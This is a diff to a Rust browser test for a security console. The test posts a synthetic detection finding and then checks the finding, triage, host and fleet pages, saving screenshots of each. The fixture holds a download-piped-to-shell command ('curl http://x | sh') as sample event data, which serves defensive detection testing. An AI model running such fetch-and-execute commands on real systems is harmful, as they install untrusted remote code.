@@ -2,6 +2,9 @@
 //! the login form, see the fleet, open a running rollout (ring progress picture, gate
 //! evidence), take a screenshot of it, and halt it with its button — the browser's prompt
 //! answered as an operator would — then check the console halted it and audited the reason.
+//! Then open a finding (its sentence, process tree, ATT&CK names), close it with the triage
+//! form, open its host's page and the fleet's findings picture, with screenshots of each kept
+//! under target/tmp/.
 //!
 //! Needs Debian's `chromium` (`scripts/test.sh` installs it) or `RINGFENCE_CHROMIUM=PATH`.
 
@@ -301,6 +304,25 @@ async fn an_operator_signs_in_sees_a_rollout_and_halts_it_in_a_real_browser() {
         }
         rollout::tick(&c.state).await.unwrap();
     }
+    // A finding from the first agent: a download piped to a shell under nginx.
+    let finding = json!({"protocol": 1, "agent_id": agents[0].id, "findings": [{
+        "event": {"kind": "alert", "severity": 4}, "host": {"name": "web-3"}, "user": {"name": "www-data"},
+        "rule": {"id": "r-1", "name": "Download piped to a shell", "description": "A download is run by a shell."},
+        "threat": {"technique": {"id": ["T1059.004"]}, "tactic": {"name": ["execution"]}},
+        "process": {"pid": 300, "executable": "/bin/sh", "command_line": "sh -c 'curl http://x | sh'",
+            "parent": {"pid": 200, "executable": "/usr/sbin/nginx", "name": "nginx", "command_line": "nginx: worker process"},
+            "ancestors": {"pid": [200, 1], "executable": ["/usr/sbin/nginx", "/sbin/init"]}}
+    }]});
+    let cred = agents[0].credential.as_str().to_owned();
+    let (status, v) = c
+        .call(
+            "POST",
+            "/api/v1/agents/findings",
+            Some(&cred),
+            Some(serde_json::to_vec(&finding).unwrap()),
+        )
+        .await;
+    assert_eq!(status.as_u16(), 200, "{v}");
     let running = ringfence_console::serve(
         c.state.clone(),
         "127.0.0.1:0".parse().unwrap(),
@@ -310,7 +332,9 @@ async fn an_operator_signs_in_sees_a_rollout_and_halts_it_in_a_real_browser() {
     .unwrap();
     let base = running.url();
 
-    let shot = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("dashboard-rollout.png");
+    // Screenshots are kept as test artifacts under target/.
+    let shot_dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).to_path_buf();
+    let shot = shot_dir.join("dashboard-rollout.png");
     let (base2, shot2) = (base.clone(), shot.clone());
     let browser = tokio::task::spawn_blocking(move || {
         let base = base2;
@@ -343,10 +367,7 @@ async fn an_operator_signs_in_sees_a_rollout_and_halts_it_in_a_real_browser() {
         assert!(page.contains("canary") && page.contains("weekly content"), "{page}");
         assert!(page.contains("Gates"), "{page}");
         assert_eq!(b.eval("document.querySelector('.actions .halt').disabled"), json!(false));
-        let png = b.call("Page.captureScreenshot", json!({"format": "png"}));
-        let bytes = decode_base64(png["data"].as_str().unwrap());
-        assert!(bytes.starts_with(b"\x89PNG\r\n\x1a\n") && bytes.len() > 10_000, "{} bytes", bytes.len());
-        std::fs::write(&shot2, &bytes).unwrap();
+        shoot(&mut b, &shot2);
 
         // Halt with the button; the prompt asks for a reason.
         b.eval("setTimeout(() => document.querySelector('.actions .halt').click(), 0); true");
@@ -356,11 +377,55 @@ async fn an_operator_signs_in_sees_a_rollout_and_halts_it_in_a_real_browser() {
             "the page to show the halt",
             "document.readyState === 'complete' && document.querySelector('.actions .resume') && !document.querySelector('.actions .resume').disabled",
         );
-        b.text()
+        let halted = b.text();
+
+        // The findings list: one sentence per finding; open it.
+        b.goto(&format!("{base}/findings"));
+        b.wait_until("the findings list", "document.querySelector('table.findings a[href^=\"/findings/\"]')");
+        b.eval("document.querySelector('table.findings a[href^=\"/findings/\"]').click(); true");
+        b.wait_until("the finding page", "document.querySelector('svg[aria-label=\"process tree\"]') && document.readyState === 'complete'");
+        let page = b.text();
+        assert!(page.contains("Download piped to a shell: sh -c 'curl http://x | sh' run by www-data under nginx on web-3"), "{page}");
+        assert!(page.contains("Command and Scripting Interpreter: Unix Shell"), "{page}");
+        assert_eq!(b.eval("document.querySelectorAll('svg[aria-label=\"process tree\"] rect').length"), json!(3));
+        // The raw event is behind a toggle.
+        assert_eq!(b.eval("document.querySelector('details.raw').open"), json!(false));
+        shoot(&mut b, &shot_dir.join("dashboard-finding.png"));
+
+        // Close it as a false positive with the triage form; the change shows in its history.
+        b.eval("const f = document.querySelector('form.triage'); f.elements.status.value = 'closed'; \
+                f.elements.close_reason.value = 'false_positive'; f.elements.why.value = 'known cron job'; \
+                f.querySelector('button').click(); true");
+        b.wait_until("the history", "document.readyState === 'complete' && document.body.innerText.includes('known cron job')");
+        let page = b.text();
+        assert!(page.contains("closed · false positive"), "{page}");
+
+        // Acknowledge every finding of the rule with the bulk form over the list's filter.
+        b.goto(&format!("{base}/findings?rule=Download%20piped%20to%20a%20shell"));
+        b.eval("const f = document.querySelector('form.bulk'); f.elements.status.value = 'acknowledged'; \
+                f.elements.why.value = 'triage sweep'; f.querySelector('button').click(); true");
+        b.wait_until("the bulk change", "document.querySelector('form.bulk .result').textContent.includes('1 changed')");
+        b.wait_until("the list again", "document.readyState === 'complete' && document.body.innerText.includes('acknowledged')");
+        b.goto(&format!("{base}/findings/1"));
+
+        // The host page: versions, health over a day, its findings.
+        b.eval("document.querySelector('a[href^=\"/agents/\"]').click(); true");
+        b.wait_until("the host page", "document.querySelector('svg[aria-label=\"health timeline\"]') && document.readyState === 'complete'");
+        let host = b.text();
+        assert!(host.contains("0.1.0") && host.contains("Download piped to a shell"), "{host}");
+        shoot(&mut b, &shot_dir.join("dashboard-host.png"));
+
+        // The fleet page draws findings over time by severity.
+        b.goto(&format!("{base}/fleet"));
+        assert!(b.eval("document.querySelectorAll('svg.timeline rect.sev4').length").as_u64() > Some(0));
+        shoot(&mut b, &shot_dir.join("dashboard-fleet.png"));
+        halted
     })
     .await
     .unwrap();
     assert!(browser.contains("halted"), "{browser}");
+    let (_, audit) = c.op("GET", "/api/v1/audit?limit=100", Value::Null).await;
+    assert!(audit.to_string().contains("known cron job"), "{audit}");
 
     let (_, v) = c
         .op("GET", &format!("/api/v1/rollouts/{id}"), Value::Null)
@@ -373,6 +438,22 @@ async fn an_operator_signs_in_sees_a_rollout_and_halts_it_in_a_real_browser() {
     );
     eprintln!("screenshot of the rollout page: {}", shot.display());
     running.shutdown().await.unwrap();
+}
+
+/// A screenshot of the whole page, checked to be a PNG of some size, written to `path`.
+fn shoot(b: &mut Browser, path: &std::path::Path) {
+    let png = b.call(
+        "Page.captureScreenshot",
+        json!({"format": "png", "captureBeyondViewport": true}),
+    );
+    let bytes = decode_base64(png["data"].as_str().unwrap());
+    assert!(
+        bytes.starts_with(b"\x89PNG\r\n\x1a\n") && bytes.len() > 10_000,
+        "{} bytes",
+        bytes.len()
+    );
+    std::fs::write(path, &bytes).unwrap();
+    eprintln!("screenshot: {}", path.display());
 }
 
 /// Standard base64 (the screenshot), without another dependency.
